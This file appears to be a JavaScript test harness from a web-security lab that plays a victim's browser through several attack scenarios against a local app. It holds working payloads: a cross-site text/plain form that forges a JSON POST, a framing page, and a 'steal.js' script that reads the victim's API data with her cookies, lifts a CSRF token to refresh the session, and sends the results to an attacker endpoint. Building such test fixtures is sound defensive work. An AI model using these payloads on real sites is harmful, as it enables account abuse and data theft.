// The scenarios of stage 5's browser attacks, each played by the victim in a browser context of her own (fresh
// cookies, storage and cache) after she signed in through the sign-in form. A scenario only drives the browser and
// the attacker's page, and returns what happened as facts; the attack (src/attacks/browser_attacks.cpp) decides.
//
//   open-project      the victim opens /project?id=PROJECT, where a task's result holds what another agent wrote;
//   open-dashboard    the victim opens /dashboard, whose list holds project PROJECT, named by another coordinator;
//   cross-site-form   the victim opens a page on http://127.0.0.2 whose form POSTs {"name": NAME} to /api/projects;
//   frame             the victim opens a page on http://127.0.0.2 that frames the dashboard;
//   same-site-read    the victim opens a page of another origin of the same site (https://localhost:OTHER_PORT,
//                     served with the lab CA's localhost certificate: another service on the host) whose script
//                     reads /api/projects with the victim's cookies, refreshing once if the token has expired.
//
// Each takes (context, page, o): o.origin (https://localhost:PORT), o['ca-dir'] (the lab CA's directory), o.user,
// o.password, and o.project or o.name where the scenario names them.
'use strict';

const fs = require('node:fs');
const http = require('node:http');
const https = require('node:https');
const path = require('node:path');

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const escapeHtml = (s) => String(s).replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

// A page server for the attacker; `pages(url)` answers a path with HTML, or null for 404. Resolves to its origin.
function serve(server, host, pages, scheme) {
  server.on('request', (req, res) => {
    const page = pages(new URL(req.url, `${scheme}://attacker`), req, res);
    if (page === undefined) return;  // answered by the page itself
    res.writeHead(page ? 200 : 404, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
    res.end(page || 'not here');
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve(server));
  });
}

async function signIn(page, o) {
  await page.goto(`${o.origin}/`);
  await page.fill('[data-testid=agent-id]', o.user);
  await page.fill('[data-testid=password]', o.password);
  await Promise.all([page.waitForURL(`${o.origin}/dashboard`), page.click('[data-testid=signin-submit]')]);
  await page.locator('[data-testid=whoami]', { hasText: o.user }).waitFor();
}

// What `element` shows of the stored text, once a handler in it has had time to run and what it sent to be answered,
// were there one: its text, how many elements it holds, and the page's errors.
async function shownMarkup(page, element, errors) {
  await sleep(300);
  await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => {});
  return { shownText: (await element.textContent()) || '', elementsShown: await element.locator('*').count(),
           pageErrors: errors };
}

const scenarios = {
  async 'open-project'(context, page, o) {
    const errors = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(`${o.origin}/project?id=${encodeURIComponent(o.project)}`);
    const cell = page.locator('[data-testid=task-row] td[data-field=result]').first();
    await cell.waitFor({ state: 'attached', timeout: 20000 });
    // The row is filled by script after the list loads; then time for a handler to run, were there one.
    const deadline = Date.now() + 15000;
    let text = '';
    while (Date.now() < deadline && !(text = (await cell.textContent()) || '') && (await cell.locator('*').count()) === 0) {
      await sleep(100);
    }
    return shownMarkup(page, cell, errors);
  },

  async 'open-dashboard'(context, page, o) {
    const errors = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(`${o.origin}/dashboard`);
    const link = page.locator(`[data-testid=project-item][data-project-id="${o.project}"] [data-testid=project-link]`);
    await link.waitFor({ state: 'attached', timeout: 20000 });
    return shownMarkup(page, link, errors);
  },

  async 'cross-site-form'(context, page, o) {
    const target = `${o.origin}/api/projects`;
    const attacker = await serve(http.createServer(), '127.0.0.2', (url) => url.pathname !== '/' ? null :
      // A text/plain form whose body reads as JSON: NAME=VALUE is {"name":"...","description":"="}.
      `<!DOCTYPE html><html><body><h1>You won a prize</h1>
<form id="f" method="POST" enctype="text/plain" action="${escapeHtml(target)}">
<input type="hidden" name="${escapeHtml(`{"name":${JSON.stringify(o.name)},"description":"`)}" value="${escapeHtml('"}')}">
</form><script>document.getElementById('f').submit();</script></body></html>`, 'http');
    try {
      const answers = [];
      page.on('response', async (r) => {
        if (r.url() === target && r.request().method() === 'POST') {
          answers.push({ status: r.status(), body: await r.text().catch(() => '') });
        }
      });
      const evil = `http://127.0.0.2:${attacker.address().port}/`;
      await page.goto(evil);
      const deadline = Date.now() + 20000;
      while (answers.length === 0 && Date.now() < deadline) await sleep(100);
      return { attackerPage: evil, formAnswers: answers };
    } finally {
      attacker.close();
    }
  },

  async frame(context, page, o) {
    const target = `${o.origin}/dashboard`;
    const attacker = await serve(http.createServer(), '127.0.0.2', (url) => url.pathname !== '/' ? null :
      `<!DOCTYPE html><html><body><h1>Click the button for a prize</h1>
<iframe name="victim" src="${escapeHtml(target)}" width="800" height="600"></iframe></body></html>`, 'http');
    try {
      const evil = `http://127.0.0.2:${attacker.address().port}/`;
      await page.goto(evil);
      // The frame's navigations (the dashboard, perhaps on to the sign-in page, or the browser's error page) settle.
      const settled = Date.now() + 15000;
      const current = () => { const f = page.frame({ name: 'victim' }); return f ? f.url() : ''; };
      while (Date.now() < settled && (current() === '' || current() === 'about:blank')) await sleep(50);
      await page.waitForLoadState('networkidle', { timeout: 3000 }).catch(() => {});
      await sleep(200);
      const frame = page.frame({ name: 'victim' });
      const url = frame ? frame.url() : '';
      const heading = frame && url.startsWith(`${o.origin}/`)
        ? await frame.evaluate(() => { const h = document.querySelector('main h1'); return h ? h.textContent : null; })
            .catch(() => null)
        : null;
      return { attackerPage: evil, frameUrl: url, labHeadingInFrame: heading };
    } finally {
      attacker.close();
    }
  },

  async 'same-site-read'(context, page, o) {
    const reports = [];
    const tls = { cert: fs.readFileSync(path.join(o['ca-dir'], 'localhost.crt')),
                  key: fs.readFileSync(path.join(o['ca-dir'], 'localhost.key')) };
    const api = `${o.origin}/api/projects`;
    const attacker = await serve(https.createServer(tls), '127.0.0.1', (url, req, res) => {
      if (url.pathname === '/report' && req.method === 'POST') {
        let body = '';
        req.on('data', (c) => { body += c; });
        req.on('end', () => { reports.push(body); res.writeHead(204); res.end(); });
        return undefined;
      }
      if (url.pathname === '/steal.js') {
        res.writeHead(200, { 'Content-Type': 'text/javascript' });
        res.end(`(async () => {
  const read = () => fetch(${JSON.stringify(api)}, { credentials: 'include' }).then(async (r) => ({ status: r.status, body: await r.text() }));
  let out;
  try {
    out = await read();
    if (out.status === 401) {
      const csrf = (document.cookie.match(/(?:^|; )__Host-csrf=([^;]*)/) || [])[1] || '';
      await fetch(${JSON.stringify(`${o.origin}/api/session/refresh`)}, { method: 'POST', credentials: 'include',
        headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': csrf }, body: '{}' });
      out = await read();
    }
  } catch (e) {
    out = { error: String(e) };
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
})();`);
        return undefined;
      }
      return url.pathname === '/' ? '<!DOCTYPE html><html><body><h1>Team calendar</h1><script src="/steal.js"></script></body></html>' : null;
    }, 'https');
    try {
      const evil = `https://localhost:${attacker.address().port}/`;
      await page.goto(evil);
      const deadline = Date.now() + 20000;
      while (reports.length === 0 && Date.now() < deadline) await sleep(100);
      let read = null;
      try { read = reports.length ? JSON.parse(reports[0]) : null; } catch { read = { error: 'unreadable report' }; }
      return { attackerPage: evil, read };
    } finally {
      attacker.close();
    }
  },
};

module.exports = { scenarios, signIn };
